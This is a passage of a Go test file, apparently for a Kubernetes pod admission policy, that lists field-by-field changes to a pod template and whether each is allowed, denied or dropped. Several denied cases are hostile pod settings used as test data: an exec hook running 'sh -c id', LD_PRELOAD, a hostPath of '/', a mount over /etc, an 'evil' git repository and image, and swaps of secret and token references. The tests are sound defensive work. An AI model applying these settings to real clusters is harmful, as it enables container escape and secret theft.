			func(p *corev1.Pod) { ready(p).TimeoutSeconds = 30 }),
		"periodSeconds": allow("readinessProbe", func(p *corev1.Pod) { ready(p).PeriodSeconds = 10 },
			func(p *corev1.Pod) { ready(p).PeriodSeconds = 1 }),
		"successThreshold": allow("readinessProbe", func(p *corev1.Pod) { ready(p).SuccessThreshold = 1 },
			func(p *corev1.Pod) { ready(p).SuccessThreshold = 5 }),
		"failureThreshold": allow("readinessProbe", func(p *corev1.Pod) { ready(p).FailureThreshold = 3 },
			func(p *corev1.Pod) { ready(p).FailureThreshold = 100 }),
		"terminationGracePeriodSeconds": deny("livenessProbe", func(p *corev1.Pod) { live(p).TerminationGracePeriodSeconds = ptr.To[int64](1) }),
	}
}

// httpGetDecisions: corev1.HTTPGetAction, of main's readiness probe.
func httpGetDecisions() map[string]podDecision {
	get := func(p *corev1.Pod) *corev1.HTTPGetAction { return mainOf(p).ReadinessProbe.HTTPGet }
	field := whose("spec.containers[main].readinessProbe")
	allow := func(value, other func(g *corev1.HTTPGetAction)) podDecision {
		return allowed(func(p *corev1.Pod) { value(get(p)) }, func(p *corev1.Pod) { other(get(p)) }, refusedBy(templatePolicy, field))
	}
	return map[string]podDecision{
		"path": denied(templatePolicy, field, func(p *corev1.Pod) { get(p).Path = "/debug/pprof" }),
		"port": denied(templatePolicy, field, func(p *corev1.Pod) { get(p).Port = intstr.FromInt32(6060) }),
		"host": denied(anyPodPolicy, "", func(p *corev1.Pod) { get(p).Host = "10.0.0.1" }),
		"scheme": allow(func(g *corev1.HTTPGetAction) { g.Scheme = corev1.URISchemeHTTP },
			func(g *corev1.HTTPGetAction) { g.Scheme = corev1.URISchemeHTTPS }),
		"httpHeaders": denied(templatePolicy, field, func(p *corev1.Pod) {
			get(p).HTTPHeaders = []corev1.HTTPHeader{{Name: "Authorization", Value: "Bearer x"}}
		}),
		// A feature off in this Kubernetes: the API server drops it.
		"protocol": dropped(func(p *corev1.Pod) { get(p).Protocol = ptr.To(corev1.HTTPProtocolHTTP2) },
			func(c *corev1.Pod) bool { return mainOf(c).ReadinessProbe.HTTPGet.Protocol != nil }),
	}
}

// tcpSocketDecisions: corev1.TCPSocketAction, of side's liveness probe.
func tcpSocketDecisions() map[string]podDecision {
	tcp := func(p *corev1.Pod) *corev1.TCPSocketAction { return sideOf(p).LivenessProbe.TCPSocket }
	return map[string]podDecision{
		"port": denied(templatePolicy, whose("spec.containers[side].livenessProbe"), func(p *corev1.Pod) { tcp(p).Port = intstr.FromInt32(22) }),
		"host": denied(anyPodPolicy, "", func(p *corev1.Pod) { tcp(p).Host = "10.0.0.1" }),
	}
}

// grpcDecisions: corev1.GRPCAction, of main's startup probe.
func grpcDecisions() map[string]podDecision {
	grpc := func(p *corev1.Pod) *corev1.GRPCAction { return mainOf(p).StartupProbe.GRPC }
	field := whose("spec.containers[main].startupProbe")
	return map[string]podDecision{
		"port": denied(templatePolicy, field, func(p *corev1.Pod) { grpc(p).Port = 9091 }),
		// "" is the API server's default service.
		"service": allowed(func(p *corev1.Pod) { grpc(p).Service = ptr.To("") }, func(p *corev1.Pod) { grpc(p).Service = ptr.To("admin") },
			refusedBy(templatePolicy, field)),
		// A feature off in this Kubernetes: the API server drops it.
		"mode": dropped(func(p *corev1.Pod) { grpc(p).Mode = ptr.To(corev1.GRPCProbeModeTLS) },
			func(c *corev1.Pod) bool { return mainOf(c).StartupProbe.GRPC.Mode != nil }),
	}
}

// lifecycleDecisions: corev1.Lifecycle, of main's.
func lifecycleDecisions() map[string]podDecision {
	lc := func(p *corev1.Pod) *corev1.Lifecycle { return mainOf(p).Lifecycle }
	return map[string]podDecision{
		"postStart": denied(templatePolicy, whose("spec.containers[main].lifecycle.postStart"), func(p *corev1.Pod) {
			lc(p).PostStart = &corev1.LifecycleHandler{Sleep: &corev1.SleepAction{Seconds: 30}}
		}),
		"preStop": denied(templatePolicy, whose("spec.containers[main].lifecycle.preStop"), func(p *corev1.Pod) {
			lc(p).PreStop = &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}
		}),
		// A feature off in this Kubernetes: the API server drops it.
		"stopSignal": dropped(func(p *corev1.Pod) { lc(p).StopSignal = ptr.To(corev1.SIGKILL) },
			func(c *corev1.Pod) bool { return mainOf(c).Lifecycle.StopSignal != nil }),
	}
}

// lifecycleHandlerDecisions: corev1.LifecycleHandler, of main's preStop.
func lifecycleHandlerDecisions() map[string]podDecision {
	field := whose("spec.containers[main].lifecycle.preStop")
	set := func(h corev1.LifecycleHandler) func(p *corev1.Pod) {
		return func(p *corev1.Pod) { *mainOf(p).Lifecycle.PreStop = h }
	}
	return map[string]podDecision{
		"exec":      denied(templatePolicy, field, set(corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}})),
		"httpGet":   denied(templatePolicy, field, set(corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Port: intstr.FromInt32(8080)}})),
		"tcpSocket": denied(templatePolicy, field, set(corev1.LifecycleHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8080)}})),
		"sleep": denied(templatePolicy, field, func(p *corev1.Pod) {
			mainOf(p).Lifecycle.PreStop.Sleep.Seconds = 20
		}),
	}
}

// portDecisions: corev1.ContainerPort, of main's port http.
func portDecisions() map[string]podDecision {
	port := func(p *corev1.Pod) *corev1.ContainerPort { return &mainOf(p).Ports[0] }
	field := whose("spec.containers[main].ports")
	return map[string]podDecision{
		"name":          denied(templatePolicy, field, func(p *corev1.Pod) { port(p).Name = "admin" }),
		"hostPort":      denied(anyPodPolicy, "", func(p *corev1.Pod) { port(p).HostPort = 8080 }),
		"containerPort": denied(templatePolicy, field, func(p *corev1.Pod) { port(p).ContainerPort = 9090 }),
		"protocol": allowed(func(p *corev1.Pod) { port(p).Protocol = corev1.ProtocolTCP }, func(p *corev1.Pod) { port(p).Protocol = corev1.ProtocolUDP },
			refusedBy(templatePolicy, field)),
		"hostIP": denied(anyPodPolicy, "", func(p *corev1.Pod) { port(p).HostIP = "127.0.0.1"; port(p).HostPort = 8080 }),
	}
}

// envDecisions: corev1.EnvVar and corev1.EnvVarSource, and the selectors
// in it, of main's env.
func envDecisions() map[string]podDecision {
	field := whose("spec.containers[main].env")
	deny := func(change func(p *corev1.Pod)) podDecision { return denied(templatePolicy, field, change) }
	return map[string]podDecision{
		"EnvVar.name":      deny(func(p *corev1.Pod) { envOf(p, "V").Name = "LD_PRELOAD" }),
		"EnvVar.value":     deny(func(p *corev1.Pod) { envOf(p, "V").Value = "w" }),
		"EnvVar.valueFrom": deny(func(p *corev1.Pod) { envOf(p, "POD").ValueFrom, envOf(p, "POD").Value = nil, "x" }),
		"EnvVarSource.fieldRef": deny(func(p *corev1.Pod) {
			envOf(p, "MEM").ValueFrom = &corev1.EnvVarSource{FieldRef: &corev1.ObjectFieldSelector{FieldPath: "spec.nodeName"}}
		}),
		"EnvVarSource.resourceFieldRef": deny(func(p *corev1.Pod) {
			envOf(p, "POD").ValueFrom = &corev1.EnvVarSource{ResourceFieldRef: &corev1.ResourceFieldSelector{Resource: "limits.cpu"}}
		}),
		"EnvVarSource.configMapKeyRef": deny(func(p *corev1.Pod) {
			envOf(p, "S").ValueFrom = &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "s"}, Key: "k"}}
		}),
		"EnvVarSource.secretKeyRef": deny(func(p *corev1.Pod) {
			envOf(p, "CM").ValueFrom = &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}, Key: "k"}}
		}),
		"EnvVarSource.fileKeyRef": deny(func(p *corev1.Pod) {
			envOf(p, "CM").ValueFrom = &corev1.EnvVarSource{FileKeyRef: &corev1.FileKeySelector{VolumeName: "data", Path: "env", Key: "K"}}
		}),
		"FileKeySelector.volumeName": deny(func(p *corev1.Pod) { envOf(p, "F").ValueFrom.FileKeyRef.VolumeName = "data" }),
		"FileKeySelector.path":       deny(func(p *corev1.Pod) { envOf(p, "F").ValueFrom.FileKeyRef.Path = "other" }),
		"FileKeySelector.key":        deny(func(p *corev1.Pod) { envOf(p, "F").ValueFrom.FileKeyRef.Key = "OTHER" }),
		"FileKeySelector.optional":   optionalAllowed(field, func(p *corev1.Pod) **bool { return &envOf(p, "F").ValueFrom.FileKeyRef.Optional }),
		"ObjectFieldSelector.apiVersion": allowed(func(p *corev1.Pod) { envOf(p, "POD").ValueFrom.FieldRef.APIVersion = "v1" },
			func(p *corev1.Pod) { envOf(p, "POD").ValueFrom.FieldRef.APIVersion = "v2" }, podOutcome{message: "unsupported pod version: v2"}),
		"ObjectFieldSelector.fieldPath": deny(func(p *corev1.Pod) { envOf(p, "POD").ValueFrom.FieldRef.FieldPath = "spec.serviceAccountName" }),
		"ResourceFieldSelector.containerName": deny(func(p *corev1.Pod) {
			envOf(p, "MEM").ValueFrom.ResourceFieldRef.ContainerName = "side"
		}),
		"ResourceFieldSelector.resource": deny(func(p *corev1.Pod) { envOf(p, "MEM").ValueFrom.ResourceFieldRef.Resource = "requests.memory" }),
		"ResourceFieldSelector.divisor": allowed(func(p *corev1.Pod) { envOf(p, "MEM").ValueFrom.ResourceFieldRef.Divisor = resource.MustParse("0") },
			func(p *corev1.Pod) { envOf(p, "MEM").ValueFrom.ResourceFieldRef.Divisor = resource.MustParse("1Mi") }, refusedBy(templatePolicy, field)),
		"ConfigMapKeySelector.name":     deny(func(p *corev1.Pod) { envOf(p, "CM").ValueFrom.ConfigMapKeyRef.Name = "other" }),
		"ConfigMapKeySelector.key":      deny(func(p *corev1.Pod) { envOf(p, "CM").ValueFrom.ConfigMapKeyRef.Key = "other" }),
		"ConfigMapKeySelector.optional": optionalAllowed(field, func(p *corev1.Pod) **bool { return &envOf(p, "CM").ValueFrom.ConfigMapKeyRef.Optional }),
		"SecretKeySelector.name":        deny(func(p *corev1.Pod) { envOf(p, "S").ValueFrom.SecretKeyRef.Name = "admin" }),
		"SecretKeySelector.key":         deny(func(p *corev1.Pod) { envOf(p, "S").ValueFrom.SecretKeyRef.Key = "token" }),
		"SecretKeySelector.optional":    optionalAllowed(field, func(p *corev1.Pod) **bool { return &envOf(p, "S").ValueFrom.SecretKeyRef.Optional }),
	}
}

// optionalAllowed: an optional reference may say false, which it is when
// absent, and not true.
func optionalAllowed(field string, at func(p *corev1.Pod) **bool) podDecision {
	return allowed(func(p *corev1.Pod) { *at(p) = ptr.To(false) }, func(p *corev1.Pod) { *at(p) = ptr.To(true) }, refusedBy(templatePolicy, field))
}

// mountDecisions: corev1.VolumeMount, of main's mount of data.
func mountDecisions() map[string]podDecision {
	mount := func(p *corev1.Pod) *corev1.VolumeMount { return &mainOf(p).VolumeMounts[0] }
	field := whose("spec.containers[main].volumeMounts")
	deny := func(change func(m *corev1.VolumeMount)) podDecision {
		return denied(templatePolicy, field, func(p *corev1.Pod) { change(mount(p)) })
	}
	return map[string]podDecision{
		"name":     deny(func(m *corev1.VolumeMount) { m.Name = "secret" }),
		"readOnly": allowed(func(p *corev1.Pod) { mount(p).ReadOnly = false }, func(p *corev1.Pod) { mount(p).ReadOnly = true }, refusedBy(templatePolicy, field)),
		"recursiveReadOnly": deny(func(m *corev1.VolumeMount) {
			m.ReadOnly, m.RecursiveReadOnly, m.MountPropagation = true, ptr.To(corev1.RecursiveReadOnlyIfPossible), ptr.To(corev1.MountPropagationNone)
		}),
		"mountPath":        deny(func(m *corev1.VolumeMount) { m.MountPath = "/etc" }),
		"subPath":          deny(func(m *corev1.VolumeMount) { m.SubPath = "x" }),
		"mountPropagation": deny(func(m *corev1.VolumeMount) { m.MountPropagation = ptr.To(corev1.MountPropagationHostToContainer) }),
		"subPathExpr":      deny(func(m *corev1.VolumeMount) { m.SubPathExpr = "$(POD)" }),
		// A feature off in this Kubernetes: the API server drops it.
		"bindMountOptions": dropped(func(p *corev1.Pod) { mount(p).BindMountOptions = []string{"nosuid"} },
			func(c *corev1.Pod) bool { return len(mainOf(c).VolumeMounts[0].BindMountOptions) > 0 }),
	}
}

// resourcesDecisions: corev1.ResourceRequirements, of main's (limits
// only in the template).
func resourcesDecisions() map[string]podDecision {
	res := func(p *corev1.Pod) *corev1.ResourceRequirements { return &mainOf(p).Resources }
	field := whose("spec.containers[main].resources")
	return map[string]podDecision{
		"limits": denied(templatePolicy, field, func(p *corev1.Pod) { res(p).Limits[corev1.ResourceMemory] = resource.MustParse("64Gi") }),
		// The API server defaults requests to the limits.
		"requests": allowed(func(p *corev1.Pod) { res(p).Requests = res(p).Limits.DeepCopy() },
			func(p *corev1.Pod) {
				res(p).Requests = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("10m")}
			}, refusedBy(templatePolicy, field)),
		"claims": denied(templatePolicy, field, func(p *corev1.Pod) {
			res(p).Claims = []corev1.ResourceClaim{{Name: "gpu"}}
		}).from(func(t *corev1.PodTemplateSpec) {
			t.Spec.ResourceClaims = []corev1.PodResourceClaim{{Name: "gpu", ResourceClaimName: ptr.To("gpu")}}
		}),
	}
}

// volumeDecisions: corev1.Volume with its inline VolumeSource: each kind
// of source in place of data's emptyDir.
func volumeDecisions() map[string]podDecision {
	field := whose("spec.volumes[data].source")
	source := func(s corev1.VolumeSource) podDecision {
		return denied(templatePolicy, field, func(p *corev1.Pod) { volumeOf(p, "data").VolumeSource = s })
	}
	secretRef := &corev1.LocalObjectReference{Name: "s"}
	return map[string]podDecision{
		"name": denied(templatePolicy, whose("spec.volumes[*].name is"), func(p *corev1.Pod) { volumeOf(p, "info").Name = "renamed" }),
		// The API server makes a volume without a source an emptyDir.
		"emptyDir": denied(templatePolicy, whose("spec.volumes[data].emptyDir.medium"), func(p *corev1.Pod) {
			volumeOf(p, "data").EmptyDir.Medium = corev1.StorageMediumMemory
		}),
		"hostPath": denied(anyPodPolicy, "", func(p *corev1.Pod) {
			volumeOf(p, "data").VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}
		}),
		"gcePersistentDisk":     source(corev1.VolumeSource{GCEPersistentDisk: &corev1.GCEPersistentDiskVolumeSource{PDName: "disk"}}),
		"awsElasticBlockStore":  source(corev1.VolumeSource{AWSElasticBlockStore: &corev1.AWSElasticBlockStoreVolumeSource{VolumeID: "vol"}}),
		"gitRepo":               source(corev1.VolumeSource{GitRepo: &corev1.GitRepoVolumeSource{Repository: "https://example.com/evil.git"}}),
		"secret":                source(corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin"}}),
		"nfs":                   source(corev1.VolumeSource{NFS: &corev1.NFSVolumeSource{Server: "10.0.0.1", Path: "/"}}),
		"iscsi":                 source(corev1.VolumeSource{ISCSI: &corev1.ISCSIVolumeSource{TargetPortal: "10.0.0.1:3260", IQN: "iqn.2001-04.com.example:storage", Lun: 0}}),
		"glusterfs":             source(corev1.VolumeSource{Glusterfs: &corev1.GlusterfsVolumeSource{EndpointsName: "ep", Path: "vol"}}),
		"persistentVolumeClaim": source(corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "other"}}),
		"rbd":                   source(corev1.VolumeSource{RBD: &corev1.RBDVolumeSource{CephMonitors: []string{"10.0.0.1:6789"}, RBDImage: "img"}}),
		"flexVolume":            source(corev1.VolumeSource{FlexVolume: &corev1.FlexVolumeSource{Driver: "example/evil"}}),
		"cinder":                source(corev1.VolumeSource{Cinder: &corev1.CinderVolumeSource{VolumeID: "vol"}}),
		"cephfs":                source(corev1.VolumeSource{CephFS: &corev1.CephFSVolumeSource{Monitors: []string{"10.0.0.1:6789"}}}),
		"flocker":               source(corev1.VolumeSource{Flocker: &corev1.FlockerVolumeSource{DatasetName: "ds"}}),
		"downwardAPI":           source(corev1.VolumeSource{DownwardAPI: &corev1.DownwardAPIVolumeSource{Items: []corev1.DownwardAPIVolumeFile{{Path: "uid", FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.uid"}}}}}),
		"fc":                    source(corev1.VolumeSource{FC: &corev1.FCVolumeSource{TargetWWNs: []string{"500a0982991b8dc5"}, Lun: ptr.To[int32](0)}}),
		"azureFile":             source(corev1.VolumeSource{AzureFile: &corev1.AzureFileVolumeSource{SecretName: "s", ShareName: "share"}}),
		"configMap":             source(corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "other"}}}),
		"vsphereVolume":         source(corev1.VolumeSource{VsphereVolume: &corev1.VsphereVirtualDiskVolumeSource{VolumePath: "[ds] vol"}}),
		"quobyte":               source(corev1.VolumeSource{Quobyte: &corev1.QuobyteVolumeSource{Registry: "10.0.0.1:7861", Volume: "vol"}}),
		"azureDisk":             source(corev1.VolumeSource{AzureDisk: &corev1.AzureDiskVolumeSource{DiskName: "disk", DataDiskURI: "https://example.blob.core.windows.net/vhds/disk.vhd"}}),
		"photonPersistentDisk":  source(corev1.VolumeSource{PhotonPersistentDisk: &corev1.PhotonPersistentDiskVolumeSource{PdID: "pd"}}),
		"projected":             source(corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "t"}}}}}),
		"portworxVolume":        source(corev1.VolumeSource{PortworxVolume: &corev1.PortworxVolumeSource{VolumeID: "vol"}}),
		"scaleIO":               source(corev1.VolumeSource{ScaleIO: &corev1.ScaleIOVolumeSource{Gateway: "https://10.0.0.1", System: "sys", VolumeName: "vol", SecretRef: secretRef}}),
		"storageos":             source(corev1.VolumeSource{StorageOS: &corev1.StorageOSVolumeSource{VolumeName: "vol"}}),
		"csi":                   source(corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: "csi.example.com"}}),
		"ephemeral":             source(corev1.VolumeSource{Ephemeral: volumeOfTemplate("scratch").Ephemeral}),
		"image":                 source(corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: "registry.example/evil:1"}}),
	}
}

// volumeOfTemplate is a volume of fieldsTemplate.
func volumeOfTemplate(name string) corev1.Volume {
	t := fieldsTemplate()
	return *volumeOf(&corev1.Pod{Spec: t.Spec}, name)
}

// defaultModeAllowed: a volume's mode may say 0644 (420), which it is when
// absent, and nothing else.
func defaultModeAllowed(field string, at func(p *corev1.Pod) **int32) podDecision {
	return allowed(func(p *corev1.Pod) { *at(p) = ptr.To[int32](0o644) }, func(p *corev1.Pod) { *at(p) = ptr.To[int32](0o777) }, refusedBy(templatePolicy, whose(field)))
}

// volumeSourceDecisions: the sources with defaults, field by field.
func volumeSourceDecisions() map[string]podDecision {
	secret := func(p *corev1.Pod) *corev1.SecretVolumeSource { return volumeOf(p, "secret").Secret }
	conf := func(p *corev1.Pod) *corev1.ConfigMapVolumeSource { return volumeOf(p, "conf").ConfigMap }
	info := func(p *corev1.Pod) *corev1.DownwardAPIVolumeSource { return volumeOf(p, "info").DownwardAPI }
	proj := func(p *corev1.Pod) *corev1.ProjectedVolumeSource { return volumeOf(p, "token").Projected }
	token := func(p *corev1.Pod) *corev1.ServiceAccountTokenProjection {
		return proj(p).Sources[0].ServiceAccountToken
	}
	claim := func(p *corev1.Pod) *corev1.PersistentVolumeClaimTemplate {
		return volumeOf(p, "scratch").Ephemeral.VolumeClaimTemplate
	}
	image := func(p *corev1.Pod) *corev1.ImageVolumeSource { return volumeOf(p, "tools").Image }
	deny := func(field string, change func(p *corev1.Pod)) podDecision {
		return denied(templatePolicy, whose(field), change)
	}
	items := []corev1.KeyToPath{{Key: "k", Path: "k"}}
	return map[string]podDecision{
		// Fields of features off in this Kubernetes: the API server drops them.
		"SecretVolumeSource.defaultUser": dropped(func(p *corev1.Pod) { secret(p).DefaultUser = ptr.To[int64](0) },
			func(c *corev1.Pod) bool { return volumeOf(c, "secret").Secret.DefaultUser != nil }),
		"ConfigMapVolumeSource.defaultUser": dropped(func(p *corev1.Pod) { conf(p).DefaultUser = ptr.To[int64](0) },
			func(c *corev1.Pod) bool { return volumeOf(c, "conf").ConfigMap.DefaultUser != nil }),
		"DownwardAPIVolumeSource.defaultUser": dropped(func(p *corev1.Pod) { info(p).DefaultUser = ptr.To[int64](0) },
			func(c *corev1.Pod) bool { return volumeOf(c, "info").DownwardAPI.DefaultUser != nil }),
		"DownwardAPIVolumeFile.user": dropped(func(p *corev1.Pod) { info(p).Items[0].User = ptr.To[int64](0) },
			func(c *corev1.Pod) bool { return volumeOf(c, "info").DownwardAPI.Items[0].User != nil }),
		"ProjectedVolumeSource.defaultUser": dropped(func(p *corev1.Pod) { proj(p).DefaultUser = ptr.To[int64](0) },
			func(c *corev1.Pod) bool { return volumeOf(c, "token").Projected.DefaultUser != nil }),
		"ServiceAccountTokenProjection.user": dropped(func(p *corev1.Pod) { token(p).User = ptr.To[int64](0) },
			func(c *corev1.Pod) bool {
				return volumeOf(c, "token").Projected.Sources[0].ServiceAccountToken.User != nil
			}),
		"EmptyDirVolumeSource.mode": dropped(func(p *corev1.Pod) { volumeOf(p, "data").EmptyDir.Mode = ptr.To[int32](0o777) },
			func(c *corev1.Pod) bool { return volumeOf(c, "data").EmptyDir.Mode != nil }),
		"SecretVolumeSource.secretName":  deny("spec.volumes[secret].secret.secretName", func(p *corev1.Pod) { secret(p).SecretName = "admin" }),
		"SecretVolumeSource.items":       deny("spec.volumes[secret].secret.items", func(p *corev1.Pod) { secret(p).Items = items }),
		"SecretVolumeSource.defaultMode": defaultModeAllowed("spec.volumes[secret].secret.defaultMode", func(p *corev1.Pod) **int32 { return &secret(p).DefaultMode }),
		"SecretVolumeSource.optional": allowed(func(p *corev1.Pod) { secret(p).Optional = ptr.To(false) }, func(p *corev1.Pod) { secret(p).Optional = ptr.To(true) },
			refusedBy(templatePolicy, whose("spec.volumes[secret].secret.optional"))),
		"ConfigMapVolumeSource.name":        deny("spec.volumes[conf].configMap.name", func(p *corev1.Pod) { conf(p).Name = "other" }),
		"ConfigMapVolumeSource.items":       deny("spec.volumes[conf].configMap.items", func(p *corev1.Pod) { conf(p).Items = items }),
		"ConfigMapVolumeSource.defaultMode": defaultModeAllowed("spec.volumes[conf].configMap.defaultMode", func(p *corev1.Pod) **int32 { return &conf(p).DefaultMode }),
		"ConfigMapVolumeSource.optional": allowed(func(p *corev1.Pod) { conf(p).Optional = ptr.To(false) }, func(p *corev1.Pod) { conf(p).Optional = ptr.To(true) },
			refusedBy(templatePolicy, whose("spec.volumes[conf].configMap.optional"))),
		"DownwardAPIVolumeSource.items": deny("spec.volumes[info].downwardAPI.items", func(p *corev1.Pod) {
			info(p).Items = append(info(p).Items, corev1.DownwardAPIVolumeFile{Path: "sa", FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.name"}})
		}),
		"DownwardAPIVolumeSource.defaultMode": defaultModeAllowed("spec.volumes[info].downwardAPI.defaultMode", func(p *corev1.Pod) **int32 { return &info(p).DefaultMode }),
		"DownwardAPIVolumeFile.path":          deny("spec.volumes[info].downwardAPI.items", func(p *corev1.Pod) { info(p).Items[0].Path = "other" }),
		"DownwardAPIVolumeFile.fieldRef": allowed(func(p *corev1.Pod) { info(p).Items[0].FieldRef.APIVersion = "v1" },
			func(p *corev1.Pod) { info(p).Items[0].FieldRef.FieldPath = "metadata.annotations" }, refusedBy(templatePolicy, whose("spec.volumes[info].downwardAPI.items"))),
		"DownwardAPIVolumeFile.resourceFieldRef": allowed(func(p *corev1.Pod) { info(p).Items[1].ResourceFieldRef.Divisor = resource.MustParse("0") },
			func(p *corev1.Pod) { info(p).Items[1].ResourceFieldRef.Resource = "limits.memory" }, refusedBy(templatePolicy, whose("spec.volumes[info].downwardAPI.items"))),
		"DownwardAPIVolumeFile.mode": deny("spec.volumes[info].downwardAPI.items", func(p *corev1.Pod) { info(p).Items[0].Mode = ptr.To[int32](0o777) }),
		"ProjectedVolumeSource.sources": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources = append(proj(p).Sources, corev1.VolumeProjection{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "admin"}}})
		}),
		"ProjectedVolumeSource.defaultMode": defaultModeAllowed("spec.volumes[token].projected.defaultMode", func(p *corev1.Pod) **int32 { return &proj(p).DefaultMode }),
		"VolumeProjection.secret": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources[0] = corev1.VolumeProjection{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "admin"}}}
		}),
		"VolumeProjection.configMap": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources[0] = corev1.VolumeProjection{ConfigMap: &corev1.ConfigMapProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}}}
		}),
		"VolumeProjection.downwardAPI": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources[1].DownwardAPI.Items[0].FieldRef.FieldPath = "metadata.uid"
		}),
		"VolumeProjection.serviceAccountToken": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) { token(p).Audience = "vault" }),
		"VolumeProjection.clusterTrustBundle": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources[0] = corev1.VolumeProjection{ClusterTrustBundle: &corev1.ClusterTrustBundleProjection{Name: ptr.To("bundle"), Path: "ca.crt"}}
		}),
		"VolumeProjection.podCertificate": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) {
			proj(p).Sources[0] = corev1.VolumeProjection{PodCertificate: &corev1.PodCertificateProjection{SignerName: "example.com/signer", KeyType: "ED25519", CredentialBundlePath: "creds.pem"}}
		}),
		"ServiceAccountTokenProjection.audience": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) { token(p).Audience = "vault" }),
		// The API server's lifetime, an hour.
		"ServiceAccountTokenProjection.expirationSeconds": allowed(func(p *corev1.Pod) { token(p).ExpirationSeconds = ptr.To[int64](3600) },
			func(p *corev1.Pod) { token(p).ExpirationSeconds = ptr.To[int64](86400) }, refusedBy(templatePolicy, whose("spec.volumes[token].projected.sources"))),
		"ServiceAccountTokenProjection.path": deny("spec.volumes[token].projected.sources", func(p *corev1.Pod) { token(p).Path = "other" }),
		"EmptyDirVolumeSource.medium":        deny("spec.volumes[data].emptyDir.medium", func(p *corev1.Pod) { volumeOf(p, "data").EmptyDir.Medium = corev1.StorageMediumMemory }),
		"EmptyDirVolumeSource.sizeLimit": deny("spec.volumes[data].emptyDir.sizeLimit", func(p *corev1.Pod) {
			volumeOf(p, "data").EmptyDir.SizeLimit = ptr.To(resource.MustParse("1Gi"))
		}),
		// Pull policy by the reference's tag, as for a container.
		"ImageVolumeSource.reference": deny("spec.volumes[tools].image.reference", func(p *corev1.Pod) { image(p).Reference = "registry.example/evil:1" }),
		"ImageVolumeSource.pullPolicy": allowed(func(p *corev1.Pod) { image(p).PullPolicy = corev1.PullIfNotPresent },
			func(p *corev1.Pod) { image(p).PullPolicy = corev1.PullNever }, refusedBy(templatePolicy, whose("spec.volumes[tools].image.pullPolicy"))),
		"PersistentVolumeClaimTemplate.metadata": deny("spec.volumes[scratch].ephemeral.volumeClaimTemplate.metadata", func(p *corev1.Pod) {
			claim(p).Labels = map[string]string{"app": "other"}
		}),
		"PersistentVolumeClaimTemplate.spec": deny("spec.volumes[scratch].ephemeral.volumeClaimTemplate.spec.storageClassName", func(p *corev1.Pod) {
			claim(p).Spec.StorageClassName = ptr.To("fast")
		}),
	}
}

// claimSpecDecisions: corev1.PersistentVolumeClaimSpec, of scratch's
// claim template.
func claimSpecDecisions() map[string]podDecision {
	spec := func(p *corev1.Pod) *corev1.PersistentVolumeClaimSpec {
		return &volumeOf(p, "scratch").Ephemeral.VolumeClaimTemplate.Spec
	}
	field := func(f string) string { return whose("spec.volumes[scratch].ephemeral.volumeClaimTemplate.spec." + f) }
	deny := func(f string, change func(s *corev1.PersistentVolumeClaimSpec)) podDecision {
		return denied(templatePolicy, field(f), func(p *corev1.Pod) { change(spec(p)) })
	}
	return map[string]podDecision{
		"accessModes": deny("accessModes", func(s *corev1.PersistentVolumeClaimSpec) {
			s.AccessModes = []corev1.PersistentVolumeAccessMode{corev1.ReadWriteMany}
		}),
		"selector": deny("selector", func(s *corev1.PersistentVolumeClaimSpec) {
			s.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"owner": "someone-else"}}
		}),
		"resources": deny("resources", func(s *corev1.PersistentVolumeClaimSpec) {
			s.Resources.Requests[corev1.ResourceStorage] = resource.MustParse("1Ti")
		}),
		"volumeName":       deny("volumeName", func(s *corev1.PersistentVolumeClaimSpec) { s.VolumeName = "someone-elses" }),
		"storageClassName": deny("storageClassName", func(s *corev1.PersistentVolumeClaimSpec) { s.StorageClassName = ptr.To("fast") }),
		// The API server's default volume mode.
		"volumeMode": allowed(func(p *corev1.Pod) { spec(p).VolumeMode = ptr.To(corev1.PersistentVolumeFilesystem) },
			func(p *corev1.Pod) { spec(p).VolumeMode = ptr.To(corev1.PersistentVolumeBlock) }, refusedBy(templatePolicy, field("volumeMode"))),
		"dataSource": deny("dataSource", func(s *corev1.PersistentVolumeClaimSpec) {
			s.DataSource = &corev1.TypedLocalObjectReference{Kind: "PersistentVolumeClaim", Name: "someone-elses"}
		}),
		"dataSourceRef": deny("dataSourceRef", func(s *corev1.PersistentVolumeClaimSpec) {
			s.DataSourceRef = &corev1.TypedObjectReference{Kind: "PersistentVolumeClaim", Name: "someone-elses"}
		}),
		"volumeAttributesClassName": deny("volumeAttributesClassName", func(s *corev1.PersistentVolumeClaimSpec) { s.VolumeAttributesClassName = ptr.To("gold") }),
	}
}

